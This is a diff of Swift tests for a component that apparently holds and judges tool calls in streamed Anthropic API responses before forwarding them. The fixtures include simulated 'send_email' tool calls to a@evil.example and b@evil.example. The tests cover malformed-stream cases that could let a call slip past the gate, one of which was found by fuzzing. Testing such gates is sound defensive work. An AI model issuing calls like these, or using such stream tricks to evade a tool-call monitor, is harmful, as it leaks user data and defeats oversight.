@@ -160,4 +160,38 @@ struct AnthropicStreamTests {
         let serverToolCarries = assembly.observeUpstream(ServerSentEvent(event: "content_block_start", data: server, raw: []))
         #expect(!serverToolCarries)
     }
+
+    /// Frames (event type, data) pairs as Anthropic does.
+    static func frame(_ events: [(String, String)]) -> [UInt8] {
+        Array(events.map { "event: \($0.0)\ndata: \($0.1)\n\n" }.joined().utf8)
+    }
+
+    @Test("a tool_use block that a later block at the same index replaces is still held and judged")
+    func replacedToolUseBlock() {
+        // A client appends every block it is sent, so it keeps the call (malformed stream, found by fuzz-stream-anthropic).
+        let bytes = Self.frame([
+            ("message_start", #"{"type":"message_start","message":{"id":"m","type":"message","role":"assistant","model":"c","content":[],"usage":{"input_tokens":1,"output_tokens":1}}}"#),
+            ("content_block_start", #"{"type":"content_block_start","index":0,"content_block":{"type":"tool_use","id":"t","name":"send_email","input":{}}}"#),
+            ("content_block_delta", #"{"type":"content_block_delta","index":0,"delta":{"type":"input_json_delta","partial_json":"{\"to\":\"a@evil.example\"}"}}"#),
+            ("content_block_start", #"{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}"#),
+            ("content_block_delta", #"{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"hi"}}"#),
+            ("message_stop", #"{"type":"message_stop"}"#),
+        ])
+        let run = GatedRun(assembly: AnthropicMessagesStream(), pieces: [bytes[...]])
+        #expect(run.carriesToolCall == [false, true, false, false, false, false])
+        #expect(run.held.count == 5)
+        #expect(run.assembly.toolCalls() == [NeutralToolCall(id: "t", name: "send_email", arguments: .parsed(["to": "a@evil.example"]))])
+    }
+
+    @Test("a message_start whose message already holds a tool_use block starts the hold, and the call is judged")
+    func toolUseInMessageStart() {
+        let bytes = Self.frame([
+            ("message_start", #"{"type":"message_start","message":{"id":"m","type":"message","role":"assistant","model":"c","content":[{"type":"tool_use","id":"t0","name":"send_email","input":{"to":"b@evil.example"}}],"usage":{"input_tokens":1,"output_tokens":1}}}"#),
+            ("message_stop", #"{"type":"message_stop"}"#),
+        ])
+        let run = GatedRun(assembly: AnthropicMessagesStream(), pieces: [bytes[...]])
+        #expect(run.carriesToolCall == [true, false])
+        #expect(run.forwarded.isEmpty)
+        #expect(run.assembly.toolCalls() == [NeutralToolCall(id: "t0", name: "send_email", arguments: .parsed(["to": "b@evil.example"]))])
+    }
 }
